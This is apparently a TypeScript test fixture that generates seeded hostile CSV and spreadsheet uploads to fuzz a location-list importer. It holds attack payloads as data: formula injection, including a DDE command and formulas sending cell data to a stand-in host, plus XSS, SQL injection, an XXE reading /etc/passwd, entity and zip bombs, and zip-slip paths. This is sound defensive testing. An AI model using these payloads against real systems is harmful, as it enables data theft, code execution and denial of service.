import { strToU8, zipSync } from "fflate";
import { excel, sheetXml, xlsx } from "../spreadsheets.ts";

/** A file from an attacker, or from a broken program. */
export interface HostileFile {
  kind: string;
  name: string;
  bytes: Uint8Array<ArrayBuffer>;
}

const HEAD = "Name,Address,City,Zip,Hours,Phone,Type,Google Maps URL";
const ROW = "Willow Branch Library,88 Example Avenue,San Jose,95125,Tue-Sat,,,";
const CELLS = ROW.split(",");
const MB = 1024 * 1024;
/** Above 6 MB the server closes the connection before it has read everything, see `maxBodyBytes`. */
const MAX_BYTES = 5.5 * MB;

type Random = (below: number) => number;

/** Seeded random numbers, so that a failure can be reproduced (mulberry32 by T. Ettinger, public domain). */
function randomFrom(seed: number): Random {
  let state = seed >>> 0;
  return (below) => {
    state = (state + 0x6d2b79f5) >>> 0;
    let mixed = Math.imul(state ^ (state >>> 15), state | 1);
    mixed ^= mixed + Math.imul(mixed ^ (mixed >>> 7), mixed | 61);
    return ((mixed ^ (mixed >>> 14)) >>> 0) % below;
  };
}

const text = (content: string) => strToU8(content) as Uint8Array<ArrayBuffer>;
const latin = (content: string) => new Uint8Array(Buffer.from(content, "latin1"));
const pick = <Value>(random: Random, values: readonly Value[]): Value =>
  values[random(values.length)] as Value;
const csv = (...rows: string[]) => text([HEAD, ...rows].join("\n"));

/** A row with a hostile value in one random cell. */
function rowWith(random: Random, cell: string): string {
  const at = random(CELLS.length);
  const quoted = `"${cell.replaceAll('"', '""')}"`;
  return CELLS.map((one, index) => (index === at ? quoted : one)).join(",");
}

function bytesOf(random: Random, length: number): Uint8Array<ArrayBuffer> {
  return Uint8Array.from({ length }, () => random(256));
}

function damaged(random: Random, bytes: Uint8Array<ArrayBuffer>): Uint8Array<ArrayBuffer> {
  const copy = bytes.slice(0, random(3) === 0 ? random(bytes.length) : bytes.length);
  for (let count = 1 + random(20); count > 0; count -= 1) copy[random(copy.length)] = random(256);
  // It still has the signature of a zip file.
  copy.set([0x50, 0x4b, 0x03, 0x04]);
  return copy;
}

const FORMULAS = [
  '=HYPERLINK("http://evil.test/?"&A1,"open")',
  "=cmd|' /C calc'!A0",
  "+1+1|cmd",
  "-2+3+cmd|' /C calc'!A0",
  '@SUM(1+1)*WEBSERVICE("http://evil.test")',
  "\t=1+1",
  '=IMPORTXML(CONCAT("http://evil.test",A1),"//a")',
];
const MARKUP = [
  "<script>document.title='hit'</script>",
  '<img src=x onerror="document.title=1">',
  '"><svg onload=alert(1)>',
  "</textarea><script>1</script>",
  "javascript:alert(1)",
  "{{constructor.constructor('return 1')()}}",
];
const SQL = [
  "'; drop table locations; --",
  '" or 1=1 --',
  "\\'); delete from locations; --",
  "$1 ? :name %s",
];
const MARKS = ["\u202E", "\u200F", "\u2066", "\u200B", "\uFEFF", "\u0300".repeat(500), "\u{E0001}", "\u2028"];
const KEYS = ["__proto__", "constructor", "toString", "hasOwnProperty", "prototype", "valueOf"];
const BEGINNINGS = [
  "\xD0\xCF\x11\xE0\xA1\xB1\x1A\xE1",
  "%PDF-1.7\n",
  "\xFF\xD8\xFF\xE0",
  "MZ\x90\0",
  "\x7FELF",
];
const BOMB = `<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa">${Array.from({ length: 12 }, (_, at) => `<!ENTITY a${at} "${`&a${at || ""};`.repeat(10)}">`).join("")}]>`;
const OUTSIDE = '<!DOCTYPE x [<!ENTITY f SYSTEM "file:///etc/passwd">]>';

/** 100 MB of zeros in 100 KB; compressed once, because that takes a second. */
let packedZeros: Uint8Array<ArrayBuffer> | undefined;
function zeros(): Uint8Array<ArrayBuffer> {
  packedZeros ??= zipSync({
    "[Content_Types].xml": strToU8("<Types/>"),
    "xl/workbook.xml": strToU8("<workbook/>"),
    "xl/worksheets/sheet1.xml": new Uint8Array(100 * MB),
  }) as Uint8Array<ArrayBuffer>;
  return packedZeros.slice();
}

/** The same, with a false smaller size in the header. */
function lyingZeros(claim: number): Uint8Array<ArrayBuffer> {
  const bytes = zeros();
  const view = new DataView(bytes.buffer);
  for (let at = 0; at + 46 < bytes.length; at += 1) {
    const mark = view.getUint32(at, true);
    if (mark === 0x04034b50 && view.getUint32(at + 22, true) === 100 * MB)
      view.setUint32(at + 22, claim, true);
    if (mark === 0x02014b50 && view.getUint32(at + 24, true) === 100 * MB)
      view.setUint32(at + 24, claim, true);
  }
  return bytes;
}

const sheetOf = (cells: string) => sheetXml([CELLS]).replace("<sheetData>", `<sheetData>${cells}`);

const KINDS: Readonly<Record<string, (random: Random) => Uint8Array<ArrayBuffer>>> = {
  "formulas in cells": (random) => csv(rowWith(random, pick(random, FORMULAS)), ROW),
  "formulas of a spreadsheet": (random) =>
    excel([HEAD.split(","), [{ formula: pick(random, FORMULAS), value: "#REF!" }, ...CELLS.slice(1)]]),
  markup: (random) => csv(rowWith(random, pick(random, MARKUP))),
  "a page in place of a list": (random) =>
    text(`<html><body onload="x()"><table><tr><td>${pick(random, MARKUP)}</td></tr></table></body></html>`),
  queries: (random) => csv(rowWith(random, pick(random, SQL))),
  "zero bytes and control signs": (random) =>
    csv(rowWith(random, `a${String.fromCharCode(random(9))}b\u0007${"\0".repeat(random(50))}`)),
  "broken UTF-8": (random) =>
    latin(`${HEAD}\n${rowWith(random, `caf\xE9 ${"\xC3".repeat(1 + random(9))}\xED\xA0\x80\xFF`)}`),
  "UTF-16 and other marks": (random) =>
    new Uint8Array(
      Buffer.concat([
        Buffer.from(pick(random, ["\xFF\xFE", "\xFE\xFF", "\xEF\xBB\xBF"]), "latin1"),
        Buffer.from(`${HEAD}\n${ROW}`, pick(random, ["utf16le", "utf8"] as const)),
        Buffer.alloc(random(3)),
      ]),
    ),
  "a hundred thousand columns": (random) =>
    text(`${"Name,".repeat(100_000)}\n${pick(random, [",", "x,"]).repeat(random(100_000))}`),
  "quotes that never close": (random) => text(`${HEAD}\n${ROW}\n"${`${ROW}\n`.repeat(random(2000))}`),
  "quotes in odd places": (random) => csv(`a"b"c,"d"e,f""g,"""${'"'.repeat(random(2000))}`, ROW),
  "huge cells": (random) =>
    csv(rowWith(random, pick(random, ["9", "a ", "<", ",", "\n"]).repeat(random(MB)))),
  "lines without end": (random) =>
    text(pick(random, ["a\n", "\n", ",\n", `${ROW}\n`]).repeat(random(200_000))),
  "marks of direction": (random) =>
    csv(rowWith(random, `${pick(random, MARKS)}Library${pick(random, MARKS)}`)),
  "nothing but a header": (random) =>
    text(`${`${HEAD}\n`.repeat(1 + random(40))}${pick(random, ["", "\n", ",,,,\n", " \t \n"])}`),
  "names of an object's own": (random) =>
    text(
      `${KEYS.map((key) => (random(2) ? key : `Name ${key}`)).join()}\n${KEYS.join()}\n${pick(random, KEYS)},1`,
    ),
  "another kind of file": (random) =>
    new Uint8Array(
      Buffer.concat([Buffer.from(pick(random, BEGINNINGS), "latin1"), bytesOf(random, random(5000))]),
    ),
  noise: (random) => bytesOf(random, random(20_000)),
  "a zip file of noise": (random) => damaged(random, bytesOf(random, 30 + random(5000))),
  "a damaged spreadsheet": (random) => damaged(random, excel([HEAD.split(","), CELLS])),
  "a bomb of zeros": (random) => (random(2) ? zeros() : lyingZeros(random(MB))),
  "XML that expands or names files": (random) =>
    xlsx(sheetXml([CELLS]).replace("?>", `?>${pick(random, [BOMB, OUTSIDE])}`), {
      "xl/sharedStrings.xml": `<?xml version="1.0"?>${pick(random, [BOMB, OUTSIDE, ""])}<sst><si><t>&a11;&f;</t></si></sst>`,
    }),
  "cells far away": (random) =>
    xlsx(
      sheetOf(
        `<row r="1"><c r="${pick(random, ["XFD1048576", "A99999999999", "ZZZZZZ1", "A-1", "A0", "", "1A"])}"><v>1</v></c></row>`,
      ),
    ),
  "texts and styles that are not there": (random) =>
    xlsx(
      sheetOf(
        `<row r="1"><c r="A1" t="s" s="${random(1e9)}"><v>${random(2) ? "" : "-"}${random(1e9)}</v></c></row>`,
      ),
    ),
  "parts that climb or are many": (random) =>
    xlsx(sheetXml([CELLS]), {
      "../../../../tmp/harm.xml": "x",
      "/etc/cron.d/harm": "x",
      "xl/worksheets/../../../harm.xml": "x",
      ...Object.fromEntries(Array.from({ length: random(700) }, (_, at) => [`xl/media/${at}.png`, ""])),
    }),
  "XML that is not closed": (random) =>
    xlsx(`${sheetXml([CELLS]).slice(0, 60 + random(200))}${"<row><c>".repeat(random(5000))}`),
  "numbers that are none": (random) =>
    csv(
      rowWith(random, pick(random, ["1e999", "-0", "NaN", "Infinity", "0x5F", "95125".repeat(300), "٩٥١٢٥"])),
    ),
  "addresses that keep a pattern busy": (random) =>
    text(
      `Name,Full address\nA,"${pick(random, ["1 ", " ,", "a,", "95125 ", "CA "]).repeat(100 + random(20_000))}"`,
    ),
};

/** That many hostile files, evenly spread over the kinds; the same ones in each run. */
export function* hostileFiles(count: number): Generator<HostileFile> {
  const kinds = Object.entries(KINDS);
  const names = [
    "list.csv",
    "list.xlsx",
    "../../list.csv",
    "a\u202Evsc.exe",
    `${"n".repeat(5000)}.csv`,
    "=1+1.csv",
  ];
  for (let at = 0; at < count; at += 1) {
    const [kind, make] = kinds[at % kinds.length] ?? ["", () => new Uint8Array()];
    const random = randomFrom(at);
    yield { kind: `${kind} (${at})`, name: pick(random, names), bytes: make(random).slice(0, MAX_BYTES) };
  }
}
